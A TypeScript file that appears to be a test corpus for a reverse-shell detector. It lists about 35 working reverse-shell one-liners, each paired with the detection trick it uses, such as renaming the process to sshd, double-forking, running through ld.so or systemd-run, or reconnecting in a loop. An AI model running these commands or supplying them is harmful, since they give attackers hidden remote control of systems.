// What a shell can do with a connection of its own, and ways to start one.
import { type Evasion, evasion, fromFile, peer, tcp } from "./row.ts";

export const SHELLS: readonly Evasion[] = [
  evasion(
    "a loop evaluates what it reads",
    "no shell is started: the one that connected obeys by itself",
    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do eval "$line" >&5 2>&1; done`,
  ),
  evasion(
    "a loop with a prompt evaluates what it reads",
    "it speaks first, as a client does",
    (place) =>
      `exec 5<>${tcp(place)}; printf '%s' "$(hostname) $ " >&5; while read -r line <&5; do eval "$line" >&5 2>&1; done`,
  ),
  evasion(
    "a loop evaluates what head reads into a variable",
    "neither shell nor program has words of the connection in its arguments",
    (place) => `exec 5<>${tcp(place)}; while line=$(head -n1 <&5); do eval "$line" >&5 2>&1; done`,
  ),
  fromFile(
    "a script evaluates what it reads",
    "a script from a file of root's connects, as a health check does",
    "bash",
    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do eval "$line" >&5 2>&1; done`,
  ),
  evasion(
    "cat feeds a loop of the shell",
    "neither end of the pipe is a shell that was started",
    (place) => `exec 5<>${tcp(place)}; cat <&5 | while read -r line; do eval "$line" >&5 2>&1; done`,
  ),
  evasion(
    "a coprocess of netcat feeds a loop",
    "the shell itself has no connection",
    (place) =>
      `coproc N { nc ${peer(place)}; }; while read -r line <&"\${N[0]}"; do eval "$line" >&"\${N[1]}" 2>&1; done`,
  ),
  evasion(
    "mapfile reads one line and a new shell runs it",
    "the command stands in an argument, not on standard input",
    (place) => `exec 5<>${tcp(place)}; mapfile -n1 -t lines <&5; bash -c "\${lines[0]}" >&5 2>&1; sleep 2`,
  ),
  evasion(
    "a command line holds what was read from the connection",
    "one short connection, no descriptor left",
    (place) => `eval "$(head -n1 <${tcp(place)})"; sleep 2`,
  ),
  evasion(
    "source reads what came over the connection",
    "no shell is started and none reads standard input",
    (place) => `exec 5<>${tcp(place)}; . <(head -n1 <&5) >&5 2>&1; sleep 2`,
  ),
  evasion(
    "a shell is given the connection as a script file",
    "its standard input is not the connection",
    (place) => `exec 9<>${tcp(place)}; bash <(cat <&9) >&9 2>&1`,
  ),
  evasion(
    "a shell runs the process substitution of netcat",
    "the script is a pipe by name",
    (place) => `bash <(nc ${peer(place)}) >/dev/null 2>&1`,
  ),
  evasion(
    "BASH_ENV names a process substitution",
    "the shell runs true, and first what the environment says",
    (place) => `BASH_ENV=<(nc ${peer(place)} | head -n1) bash -c true; sleep 2`,
  ),
  evasion(
    "here-strings carry each line to a new shell",
    "standard input is a file or a pipe of the shell's own",
    (place) => `exec 5<>${tcp(place)}; while read -r line <&5; do sh <<<"$line" >&5 2>&1; done`,
  ),
  evasion(
    "xargs starts a shell for each line",
    "the shell that runs has its command as an argument and no connection",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | xargs -d '\\n' -n1 sh -c >${place.folder}/x 2>&1`,
  ),
  evasion(
    "sed executes each line",
    "sed is no interpreter",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | sed -u 's/.*/&/e' >${place.folder}/x 2>&1`,
  ),
  evasion(
    "sqlite obeys dot commands",
    "sqlite is no interpreter",
    (place) => `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | sqlite3 >${place.folder}/x 2>&1`,
    { first: (place) => ({ text: `.shell echo ${place.marker}-$((6*7)); touch ${place.effect}\n` }) },
  ),
  evasion(
    "the connection is moved to descriptor 200",
    "nothing looks that high",
    (place) => `exec 200<>${tcp(place)}; sh <&200 >&200 2>&1`,
  ),
  evasion(
    "env, nice, timeout and stdbuf stand before the shell",
    "what is started first is no shell",
    (place) => `exec 5<>${tcp(place)}; env -i nice timeout 60 stdbuf -o0 sh <&5 >&5 2>&1`,
  ),
  evasion(
    "find executes the shell",
    "the shell's parent is find",
    (place) => `exec 5<>${tcp(place)}; find / -maxdepth 0 -exec sh ';' <&5 >&5 2>&1`,
  ),
  evasion(
    "script puts the shell on a terminal",
    "the shell has a terminal, script the connection",
    (place) => `exec 5<>${tcp(place)}; script -qfc sh /dev/null <&5 >&5 2>&1`,
  ),
  evasion(
    "script between the pipes of netcat",
    "netcat, script and shell each have something else",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | script -qfc sh /dev/null >${place.folder}/x 2>&1`,
  ),
  evasion(
    "it tries again ten times a second",
    "each kill is followed by a new shell",
    (place) => `while :; do bash -i >& ${tcp(place)} 0>&1; sleep 0.1; done`,
  ),
  evasion(
    "the dynamic loader runs the shell",
    "the executable is ld.so",
    (place) => `exec 5<>${tcp(place)}; /lib64/ld-linux-x86-64.so.2 /bin/bash -i <&5 >&5 2>&1`,
  ),
  evasion(
    "the dynamic loader runs the shell behind a fifo",
    "the executable is ld.so and has pipes only",
    (place) =>
      `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | /lib64/ld-linux-x86-64.so.2 /bin/sh >${place.folder}/x 2>&1`,
  ),
  evasion(
    "it forks twice and leaves its session",
    "the parent is gone and so is the session",
    (place) => `(setsid setsid bash -c 'sleep 0.3; exec bash -i >& ${tcp(place)} 0>&1' &) ; sleep 4`,
  ),
  evasion(
    "the shell is started two seconds after the connection",
    "a hold has an end",
    (place) => `exec 5<>${tcp(place)}; sleep 2; exec sh <&5 >&5 2>&1`,
  ),
  evasion(
    "the shell calls itself sshd",
    "argv[0] is what somebody looks at",
    (place) => `exec 5<>${tcp(place)}; (exec -a 'sshd: alice' bash) <&5 >&5 2>&1`,
  ),
  evasion(
    "systemd-run starts the shell and hands it the connection",
    "the shell's parent is pid 1",
    (place) => `exec 5<>${tcp(place)}; systemd-run -q --pipe --wait sh <&5 >&5 2>&1`,
    { user: "root" },
  ),
  evasion(
    "su starts the shell",
    "the program that gets the connection is su",
    (place) => `exec 5<>${tcp(place)}; su -s /bin/sh alice <&5 >&5 2>&1`,
    { user: "root" },
  ),
  evasion(
    "tmux is typed into and listened to",
    "the shell belongs to a server that never saw the connection",
    (place) => `
      tmux -L e${place.port} new-session -d -x 200 sh; exec 5<>${tcp(place)}
      tmux -L e${place.port} pipe-pane 'cat >${place.folder}/said'; sleep 0.2
      (tail -f ${place.folder}/said >&5) &
      while read -r line <&5; do tmux -L e${place.port} send-keys "$line" Enter; done`,
    { cleanup: (place) => `pkill -f 'tmux -L e${place.port} ' || true` },
  ),
  evasion(
    "expect joins netcat and a shell",
    "two terminals, and an interpreter in between that is made for it",
    (place) =>
      `exec expect -c 'log_user 0; set timeout -1; set stty_init -echo
spawn nc ${peer(place)}; set far $spawn_id; spawn sh; set shell $spawn_id
while 1 { expect -i $far -re "(.+)\n" { send -i $shell "$expect_out(1,string)\n" } -i $shell -re ".+" { send -i $far $expect_out(buffer) } }'`,
  ),
  evasion(
    "zsh connects by its own module",
    "not bash and no /dev/tcp",
    (place) =>
      `exec zsh -c 'zmodload zsh/net/tcp; ztcp ${peer(place)}; while read -r line <&$REPLY; do eval "$line" >&$REPLY 2>&1; done'`,
  ),
  evasion(
    "dash obeys a fifo in shared memory",
    "no bash anywhere but at the start",
    (place) => `exec dash -c 'f=/dev/shm/x${place.port}; mkfifo $f; dash <$f 2>&1 | nc ${peer(place)} >$f'`,
  ),
  evasion(
    "busybox ash and busybox nc in a ring",
    "one static program under all names",
    (place) =>
      `exec busybox ash -c 'mkfifo ${place.folder}/x; busybox ash <${place.folder}/x 2>&1 | busybox nc ${peer(place)} >${place.folder}/x'`,
  ),
  evasion(
    "tclsh reads the connection as its program",
    "another interpreter than a shell, on standard input",
    (place) => `exec tclsh <>${tcp(place)} >&0 2>&1`,
    { first: (place) => ({ text: `puts ${place.marker}-[expr 6*7]; flush stdout; exec touch ${place.effect}\n` }) },
  ),
  evasion(
    "python reads its program from netcat",
    "python waits for code on a pipe, as under Ansible",
    (place) => `mkfifo ${place.folder}/x; nc ${peer(place)} <${place.folder}/x | python3 -iuq >${place.folder}/x 2>&1`,
    {
      first: (place) => ({
        text: `print("${place.marker}-%d" % (6*7))\nimport os; os.system("touch ${place.effect}")\n`,
      }),
    },
  ),
];
